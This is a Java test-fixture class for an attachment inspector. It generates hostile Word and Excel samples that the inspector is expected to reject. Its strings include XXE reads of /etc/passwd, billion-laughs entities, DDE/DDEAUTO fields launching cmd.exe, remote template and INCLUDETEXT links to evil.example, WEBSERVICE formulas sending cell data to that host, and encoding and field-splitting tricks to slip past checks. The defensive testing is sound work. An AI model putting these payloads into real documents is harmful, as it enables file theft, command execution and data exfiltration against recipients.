package vn.thidua.attachment.inspection;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import vn.thidua.attachment.FileType;

/** XML that declares, hides or grows, and the fields and formulas that fetch or start something. */
final class HostileMarkup {

    private static final List<FileType> TYPES = List.of(FileType.DOCX, FileType.XLSX);
    private static final String XXE = "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>";

    private final List<GivenFile> files = new ArrayList<>();

    static List<GivenFile> all() {
        HostileMarkup markup = new HostileMarkup();
        markup.doctypes();
        markup.encodings();
        markup.growth();
        markup.simpleFields();
        markup.complexFields();
        markup.linkFields();
        markup.formulas();
        return markup.files;
    }

    private void refuse(String what, String code, Parts parts) {
        files.add(GivenFile.refused(parts.type + ": " + what, code, parts.type, parts.bytes()));
    }

    private void body(String what, String code, String body) {
        refuse(what, code, Parts.docx().with("word/document.xml", Parts.document(body)));
    }

    private void doctypes() {
        StringBuilder laughs = new StringBuilder("<!DOCTYPE a [<!ENTITY l0 \"ha\">");
        for (int i = 1; i < 12; i++) {
            laughs.append("<!ENTITY l").append(i).append(" \"").append(("&l" + (i - 1) + ";").repeat(10)).append("\">");
        }
        laughs.append("]><a>&l11;</a>");
        String[][] kinds = {
            {"an outside entity", XXE}, {"a billion laughs", laughs.toString()}, {"an outside document type", "<!DOCTYPE a SYSTEM \"http://evil.example/a.dtd\"><a/>"},
            {"a bare document type", "<!DOCTYPE a><a/>"}, {"a parameter entity", "<!DOCTYPE a [<!ENTITY % p SYSTEM \"http://evil.example/p\"> %p;]><a/>"},
            {"a document type behind a comment", "<!-- a --><?pi b?><!DOCTYPE a []><a/>"}
        };
        for (FileType type : TYPES) {
            String home = Parts.of(type).home();
            for (String part : List.of(Parts.TYPES, "_rels/.rels", Parts.of(type).main(), home + "styles.xml", "docProps/core.xml", "customXml/item1.xml", home + "_rels/a.xml.rels", home + "media/a.vml")) {
                for (String[] kind : kinds) {
                    refuse(kind[0] + " in " + part, "doctype", Parts.of(type).with(part, kind[1]));
                }
            }
            refuse("markup in a part that is called a picture", "doctype", Parts.of(type).with(home + "media/a.png", XXE));
            refuse("markup behind spaces in a part that is called a picture", "doctype", Parts.of(type).with(home + "media/a.png", "\ufeff \n" + XXE));
            refuse("markup of UTF-16 in a part that is called a picture", "doctype", Parts.of(type).with(home + "media/a.png", ("\ufeff" + XXE).getBytes(StandardCharsets.UTF_16LE)));
            refuse("markup whose type has a parameter", "doctype", Parts.of(type)
                    .into(Parts.TYPES, Parts.override("a.bin", "application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml;a=b")).with("a.bin", XXE));
        }
    }

    private void encodings() {
        for (FileType type : TYPES) {
            for (String charset : List.of("UTF-16LE", "UTF-16BE")) {
                byte[] hidden = ("\ufeff<?xml version=\"1.0\" encoding=\"UTF-16\"?>" + XXE).getBytes(Charset.forName(charset));
                refuse("an entity in " + charset, "doctype", Parts.of(type).with("customXml/item1.xml", hidden));
            }
            for (String charset : List.of("UTF-7", "utf-7", "x-user-defined", "UTF-32", "HZ")) {
                String text = "<?xml version=\"1.0\" encoding=\"" + charset + "\"?>+ADwAIQ-DOCTYPE a+AD4-<a/>";
                refuse("said to be in " + charset, "damaged", Parts.of(type).with("customXml/item1.xml", text));
            }
            refuse("no UTF-8", "damaged", Parts.of(type).with("customXml/item1.xml", HostileMixtures.ascii("<?xml version=\"1.0\" encoding=\"UTF-8\"?><a>\u00ff\u00c0</a>")));
            byte[] macros = ("\ufeff" + Parts.types(Parts.override(Parts.of(type).main(), "application/vnd.ms-word.document.macroEnabled.main+xml")).replace("UTF-8", "UTF-16"))
                    .getBytes(StandardCharsets.UTF_16LE);
            refuse("macros by types in UTF-16", "macros", Parts.of(type).with(Parts.TYPES, macros));
            byte[] external = ("\ufeff" + Parts.relationships(Parts.relationship(Parts.OFFICE + "attachedTemplate", "http://evil.example/a.dotm", true)).replace("UTF-8", "UTF-16"))
                    .getBytes(StandardCharsets.UTF_16BE);
            refuse("a template by relationships in UTF-16", "externalContent", Parts.of(type).with("a/_rels/a.xml.rels", external));
        }
        byte[] field = ("\ufeff" + Parts.document("<w:p><w:fldSimple w:instr=\"DDEAUTO cmd\"/></w:p>").replace("UTF-8", "UTF-16")).getBytes(StandardCharsets.UTF_16LE);
        refuse("a field in UTF-16", "fields", Parts.docx().with("word/document.xml", field));
    }

    private void growth() {
        for (FileType type : TYPES) {
            refuse("very deep", "damaged", Parts.of(type).with("customXml/item1.xml", "<a>".repeat(30_000) + "</a>".repeat(30_000)));
            StringBuilder attributes = new StringBuilder("<a ");
            for (int i = 0; i < 20_000; i++) {
                attributes.append('a').append(i * 7_919L).append("=\"").append(i * 104_729L).append("\" ");
            }
            refuse("very many attributes", "damaged", Parts.of(type).with("customXml/item1.xml", attributes + "/>"));
            StringBuilder noise = new StringBuilder();
            for (int i = 0; i < 300_000; i++) {
                noise.append(Integer.toHexString(i * 48_271));
            }
            refuse("a very long attribute", "damaged", Parts.of(type).with("customXml/item1.xml", "<a b=\"" + noise + "\"/>"));
            refuse("a very long comment", "damaged", Parts.of(type).with("customXml/item1.xml", "<a><!--" + noise + "--></a>"));
        }
        body("a field of more letters than anybody writes", "damaged", "<w:r><w:instrText>" + "PAGE ".repeat(30_000) + "</w:instrText></w:r>");
        body("fields in fields", "damaged", "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>".repeat(300));
    }

    private static List<String> codes() {
        return List.of("DDE cmd \"/c calc\"", "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"", "INCLUDETEXT \"http://evil.example/a.docx\"", "INCLUDEPICTURE \"http://evil.example/a.png\" \\d",
                "IMPORT \"a\"", "LINK Excel.Sheet.8 \"\\\\\\\\evil\\\\a.xls\"", "EMBED Package", "DATABASE \\d \"a\"", "RD \"http://evil.example\"", "MACROBUTTON a b", "CONTROL a", "PRINT 27",
                "ddeauto a b", " \t DdE a b", "\"INCLUDETEXT\" a", "= DDEAUTO a", "IF 1 = 1 \"DDE a\"");
    }

    private void simpleFields() {
        for (String code : codes()) {
            body("a simple field " + code.strip(), "fields", "<w:p><w:fldSimple w:instr=\"" + Parts.escaped(code) + "\"/></w:p>");
        }
        body("a simple field with letters as numbers", "fields", "<w:p><w:fldSimple w:instr=\"&#68;&#x44;E a\"/></w:p>");
        body("a simple field behind one of another space", "fields", "<w:p><w:fldSimple x:instr=\"PAGE\" w:instr=\"DDEAUTO a\"/></w:p>");
        for (String part : List.of("header1", "footer1", "footnotes", "comments", "glossary/document", "anything")) {
            refuse("a simple field in " + part, "fields", Parts.docx().with("word/" + part + ".xml", Parts.document("<w:fldSimple w:instr=\"INCLUDEPICTURE a\"/>")));
        }
    }

    private static String run(String text) {
        return "<w:r><w:instrText xml:space=\"preserve\">" + Parts.escaped(text) + "</w:instrText></w:r>";
    }

    private static String mark(String kind) {
        return "<w:r><w:fldChar w:fldCharType=\"" + kind + "\"/></w:r>";
    }

    private void complexFields() {
        for (String code : codes()) {
            body("a field " + code.strip(), "fields", mark("begin") + run(code) + mark("separate") + mark("end"));
            StringBuilder split = new StringBuilder();
            code.chars().forEach(letter -> split.append(run("" + (char) letter)));
            body("a field in letters of their own " + code.strip(), "fields", mark("begin") + split + mark("end"));
        }
        body("a field without an end", "fields", mark("begin") + run("DDEAUTO a"));
        body("a field without a beginning", "fields", run("DDEAUTO a"));
        body("a field split by another", "fields", mark("begin") + run("DDE") + mark("begin") + run("PAGE") + mark("end") + run("AUTO a") + mark("end"));
        body("a field in another", "fields", mark("begin") + run("IF 1=1 ") + mark("begin") + run("INCLUDETEXT a") + mark("end") + mark("end"));
        body("a field that was deleted", "fields", mark("begin") + "<w:r><w:delInstrText>DDE a b</w:delInstrText></w:r>" + mark("end"));
        body("a field in character data", "fields", mark("begin") + "<w:r><w:instrText><![CDATA[DD]]>E a</w:instrText></w:r>" + mark("end"));
        body("a field with a comment in it", "fields", mark("begin") + "<w:r><w:instrText>DD<!-- a -->E a</w:instrText></w:r>" + mark("end"));
        body("a field behind an element that is passed over", "fields", mark("begin") + "<w:r><w:instrText><x:f/>DDEAUTO a</w:instrText></w:r>" + mark("end"));
        body("a field behind one of its own kind that is passed over", "fields", mark("begin") + "<w:r><w:instrText><x:instrText/>DDEAUTO a</w:instrText></w:r>" + mark("end"));
        body("marks with a second kind", "fields", "<w:fldChar x:fldCharType=\"end\" w:fldCharType=\"begin\"/>" + run("LINK a") + mark("end"));
    }

    private void linkFields() {
        for (String target : List.of("HYPERLINK \"javascript:alert(1)\"", "HYPERLINK javascript:alert(1)", "hyperlink \"file://evil/share\"", "HYPERLINK \"\\\\\\\\evil\\\\share\"",
                "HYPERLINK \\o \"một lời\" \"javascript:alert(1)\"", "HYPERLINK \\t _blank \"\\\\\\\\evil\\\\a\"", "HYPERLINK \\n \"vbscript:a\"", "HYPERLINK \u201cjavascript:alert(1)\u201d",
                "HYPERLINK \\h \"data:text/html,a\"", "\"HYPERLINK\" \"javascript:a\"")) {
            body("a simple field " + target, "linkNotTaken", "<w:fldSimple w:instr=\"" + Parts.escaped(target) + "\"/>");
            body("a field " + target, "linkNotTaken", mark("begin") + run(target) + mark("separate") + mark("end"));
        }
    }

    private void formulas() {
        List<String> formulas = List.of("WEBSERVICE(\"http://evil.example/\"&A1)", "_xlfn.WEBSERVICE(A1)", "IMAGE(\"http://evil.example\")", "_xlfn.IMAGE(A1)", "RTD(\"a\",,\"b\")", "CALL(\"urlmon\",\"a\")",
                "REGISTER(\"a\",\"b\")", "REGISTER.ID(\"a\",\"b\")", "EXEC(\"calc\")", "DDE(\"cmd\";\"/c calc\";\"a\")", "cmd|'/c calc'!A0", "=cmd|'/c calc'!A0", "+cmd|' /c calc'!A0", "MSEXCEL|'\\..\\a'!b",
                "1+cmd|'/c calc'!A0", "SUM(cmd|'/c calc'!A0)", "'cmd'|'/c calc'!A0", "-2+3+cmd|a!A0", "webservice (\"a\")", "\"a\"&WEBSERVICE(A1)",
                "'a\"b'!A1&WEBSERVICE(\"c\")", "T['[x]&WEBSERVICE(A1)&T['[x]", "T['[x]&cmd|'/c calc'!A0");
        for (String formula : formulas) {
            String text = Parts.escaped(formula);
            cell("a formula " + formula, "<c r=\"A1\"><f>" + text + "</f></c>");
            refuse("a name for " + formula, "fields", Parts.xlsx().with("xl/workbook.xml", Parts.workbook("<definedNames><definedName name=\"a\">" + text + "</definedName></definedNames>")));
        }
        cell("a formula in pieces", "<c r=\"A1\"><f>WEB<![CDATA[SERVICE]]><!-- a -->(A1)</f></c>");
        for (String element : List.of("formula", "formula1", "formula2", "calculatedColumnFormula", "totalsRowFormula")) {
            refuse("a formula in an element " + element, "fields", Parts.xlsx().with("xl/tables/table1.xml", "<table><" + element + ">WEBSERVICE(\"a\")</" + element + "></table>"));
        }
        for (String link : List.of("HYPERLINK(\"javascript:alert(1)\")", "HYPERLINK(\"\\\\evil\\share\",\"a\")", "IF(TRUE,HYPERLINK( \"file://evil/a\"))")) {
            refuse("a formula " + link, "linkNotTaken", Parts.xlsx().with("xl/worksheets/sheet1.xml", Parts.sheet("<row r=\"1\"><c r=\"A1\"><f>" + Parts.escaped(link) + "</f></c></row>")));
        }
    }

    private void cell(String what, String cell) {
        refuse(what, "fields", Parts.xlsx().with("xl/worksheets/sheet1.xml", Parts.sheet("<row r=\"1\">" + cell + "</row>")));
    }
}
